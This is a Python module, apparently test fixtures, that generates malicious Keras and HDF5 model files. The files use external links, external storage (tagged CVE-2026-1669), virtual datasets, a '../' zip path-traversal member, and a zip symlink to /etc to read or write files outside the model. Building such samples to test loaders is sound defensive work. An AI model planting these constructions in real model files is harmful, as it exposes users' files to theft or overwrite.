"""Keras files that lead out of themselves: to other files of the disk, or other places on it."""

import zipfile

import h5py
import numpy as np
import tf_keras
from keras_files import dense, sequential3, weights_file, with_module, write_keras


def _dense_h5(folder, change, place):
    path = folder / "m.h5"
    tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Dense(4, name="f")]).save(path)
    with h5py.File(path, "a") as file:
        group = file["model_weights/f/f"]
        del group["kernel:0"]
        change(group, place)
    return path


def _secret_h5(folder):
    place = folder / "secret.h5"
    with h5py.File(place, "w") as file:
        file["kernel"] = np.ones((4, 4), np.float32)
    return place


def external_link(folder, marker):
    def change(group, place):
        group["kernel:0"] = h5py.ExternalLink(str(place), "/kernel")

    return _dense_h5(folder, change, _secret_h5(folder))


def external_storage(folder, marker):
    """CVE-2026-1669."""
    place = folder / "secret.bin"
    place.write_bytes(bytes(64))

    def change(group, place):
        group.create_dataset("kernel:0", (4, 4), "f4", external=[(str(place), 0, 64)])

    return _dense_h5(folder, change, place)


def virtual_dataset(folder, marker):
    def change(group, place):
        layout = h5py.VirtualLayout((4, 4), "f4")
        layout[:] = h5py.VirtualSource(str(place), "kernel", (4, 4))
        group.create_virtual_dataset("kernel:0", layout)

    return _dense_h5(folder, change, _secret_h5(folder))


def external_link_keras(folder, marker):
    place = _secret_h5(folder)

    def change(file):
        file["layers/dense/vars/0"] = h5py.ExternalLink(str(place), "/kernel")

    config = sequential3(with_module(dense()))
    path = folder / "m.keras"
    return write_keras(path, config, weights=weights_file(change), version="2.15.0")


def member_outside(folder, marker):
    path = folder / "m.keras"
    return write_keras(path, sequential3(), version="3.15.1", extra=[(f"../{marker.name}", "ran")])


def linked_member(folder, marker):
    info = zipfile.ZipInfo("assets")
    info.external_attr = 0o120777 << 16
    path = folder / "m.keras"
    return write_keras(path, sequential3(), version="3.15.1", extra=[(info, "/etc")])


FILES = [
    external_link,
    external_storage,
    virtual_dataset,
    external_link_keras,
    member_outside,
    linked_member,
]
